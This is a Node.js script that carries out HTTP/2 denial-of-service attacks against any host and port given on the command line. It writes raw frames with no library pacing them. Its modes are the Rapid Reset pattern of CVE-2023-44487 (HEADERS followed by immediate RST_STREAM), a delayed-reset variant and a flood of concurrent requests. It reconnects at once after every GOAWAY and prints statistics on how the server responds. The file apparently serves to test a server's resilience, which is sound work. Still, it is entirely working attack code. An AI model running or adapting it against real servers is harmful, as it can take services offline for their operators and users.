// An HTTP/2 attacker that writes raw frames, in its own process, as fast as the socket takes them, and
// reconnects the moment a connection ends (after a GOAWAY or a close at accept). No HTTP/2 library: nothing
// paces it, batches it or waits for the server's SETTINGS.
// Usage: node h2RawAttack.mjs <host> <port> <seconds> <mode> [localAddress]
//   mode "reset": HEADERS then RST_STREAM(CANCEL) in the same write (CVE-2023-44487's pattern)
//   mode "split": RST_STREAM 2 ms after its HEADERS
//   mode "flood": whole requests (HEADERS + DATA, END_STREAM), never reset
// Prints {"connections","served","closedAtAccept","streams","goaway":{code:count}} at the end.
import net from "node:net";

const [host, port, seconds, mode] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4] ?? 5), process.argv[5] ?? "reset"];
const localAddress = process.argv[6];
const end = Date.now() + seconds * 1000;
const stats = { connections: 0, served: 0, closedAtAccept: 0, streams: 0, goaway: {} };

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
function frame(type, flags, streamId, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}
// SETTINGS_INITIAL_WINDOW_SIZE at its largest, and the connection's window opened as far: the server's answers
// never wait on this client's flow control.
const MAX_WINDOW = 0x7fffffff;
const SETTINGS = frame(4, 0, 0, Buffer.from([0, 4, (MAX_WINDOW >>> 24) & 0xff, (MAX_WINDOW >>> 16) & 0xff, (MAX_WINDOW >>> 8) & 0xff, MAX_WINDOW & 0xff]));
const increment = Buffer.alloc(4);
increment.writeUInt32BE(MAX_WINDOW - 65_535);
const WINDOW_UPDATE = frame(8, 0, 0, increment);
const SETTINGS_ACK = frame(4, 1, 0, Buffer.alloc(0));
// HPACK, static table only: :method POST (3), :scheme http (6), :path / (4), then literals without indexing
// of static names :authority (1) and content-type (31).
const AUTHORITY = Buffer.from(`${host}:${port}`);
const CT = Buffer.from("application/json");
const HEADER_BLOCK = Buffer.concat([Buffer.from([0x83, 0x86, 0x84, 0x01, AUTHORITY.length]), AUTHORITY, Buffer.from([0x0f, 0x10, CT.length]), CT]);
const BODY = Buffer.from('{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":[]}');
const CANCEL = Buffer.from([0, 0, 0, 8]);
const END_HEADERS = 0x4;
const END_STREAM = 0x1;

function connect() {
  if (Date.now() > end) return;
  stats.connections++;
  const socket = net.connect({ host, port, ...(localAddress ? { localAddress } : {}) });
  let received = 0;
  let nextId = 1;
  let pending = Buffer.alloc(0);
  let open = true;
  // Flood mode: streams the server has not finished answering (it allows 100 at once).
  let unanswered = 0;
  socket.setNoDelay(true);
  socket.on("error", () => undefined);
  const send = (frames) => {
    if (!open) return false;
    return socket.write(Buffer.concat(frames));
  };
  const newStreams = (n, reset) => {
    const frames = [];
    const ids = [];
    for (let i = 0; i < n; i++) {
      const id = nextId;
      nextId += 2;
      ids.push(id);
      if (mode === "flood") frames.push(frame(1, END_HEADERS, id, HEADER_BLOCK), frame(0, END_STREAM, id, BODY));
      else frames.push(frame(1, END_HEADERS, id, HEADER_BLOCK));
      if (reset) frames.push(frame(3, 0, id, CANCEL));
    }
    stats.streams += n;
    return { frames, ids };
  };
  const flood = () => {
    if (!open || Date.now() > end) return;
    const n = 100 - unanswered;
    if (n <= 0) return;
    unanswered += n;
    send(newStreams(n, false).frames);
  };
  const burst = () => {
    if (!open || Date.now() > end) return;
    if (nextId > 0x7fff0000) return void socket.destroy();
    if (mode === "split") {
      const { frames, ids } = newStreams(100, false);
      send(frames);
      setTimeout(() => {
        const writable = send(ids.map((id) => frame(3, 0, id, CANCEL)));
        if (writable) setImmediate(burst);
        else socket.once("drain", burst);
      }, 2);
      return;
    }
    if (send(newStreams(100, true).frames)) setImmediate(burst);
    else socket.once("drain", burst);
  };
  socket.on("data", (chunk) => {
    if (received === 0) stats.served++;
    received += chunk.length;
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const len = pending.readUIntBE(0, 3);
      if (pending.length < 9 + len) break;
      const type = pending[3];
      const flags = pending[4];
      if (type === 7 && len >= 8) {
        const code = pending.readUInt32BE(9 + 4);
        stats.goaway[code] = (stats.goaway[code] ?? 0) + 1;
        // Reconnect at once: the server will take no new stream on this connection.
        socket.destroy();
        return;
      }
      if (type === 4 && (flags & 1) === 0) send([SETTINGS_ACK]);
      if (((type === 0 || type === 1) && (flags & END_STREAM) !== 0) || type === 3) unanswered--;
      pending = pending.subarray(9 + len);
    }
    if (mode === "flood") flood();
  });
  socket.on("close", () => {
    open = false;
    if (received === 0) stats.closedAtAccept++;
    setImmediate(connect);
  });
  socket.on("connect", () => {
    send([PREFACE, SETTINGS, WINDOW_UPDATE]);
    if (mode === "flood") flood();
    else burst();
  });
}
connect();
setTimeout(
  () => {
    process.stdout.write(JSON.stringify(stats));
    process.exit(0);
  },
  seconds * 1000 + 300,
);
